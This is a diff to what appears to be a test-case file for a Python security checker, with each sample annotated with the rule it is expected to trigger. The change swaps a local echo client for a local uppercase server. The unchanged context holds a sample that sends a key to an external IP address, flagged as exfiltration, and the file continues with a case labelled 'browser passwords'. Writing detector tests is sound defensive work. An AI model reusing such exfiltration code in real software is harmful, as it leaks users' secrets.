@@ -73,14 +73,18 @@ s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 s.connect(("198.51.100.20", 9001))  # expect: PY-NETWORK
 s.sendall(key.encode())  # expect: PY-EXFILTRATION error
 s.close()
-#: a local echo client
-import socket
+#: a server that answers with capitals
+import socketserver
 
-s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-s.connect(("127.0.0.1", 9001))
-s.sendall(b"hello")
-print(s.recv(100))
-s.close()
+
+class Capitals(socketserver.StreamRequestHandler):
+    def handle(self):
+        for line in self.rfile:
+            self.wfile.write(line.upper())
+
+
+with socketserver.TCPServer(("127.0.0.1", 9001), Capitals) as server:
+    server.serve_forever()
 #: browser passwords
 import os
 import shutil
